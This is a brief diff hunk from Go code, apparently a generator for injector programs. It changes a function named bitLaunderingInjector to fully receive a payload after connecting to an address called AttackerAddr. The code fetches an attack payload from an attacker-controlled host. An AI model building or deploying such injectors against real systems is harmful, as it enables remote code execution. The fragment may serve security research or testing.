@@ -69,7 +69,7 @@ func bitLaunderingInjector(name string, payloadLen uint32) Program {
 	buf := b.BSS(4096)
 
 	emitConnect(b, AttackerAddr)
-	emitRecv(b, buf, payloadLen)
+	emitRecvAll(b, buf, payloadLen)
 
 	b.Text.Movi(isa.EBX, 0)
 	b.Text.Movi(isa.ECX, 0)
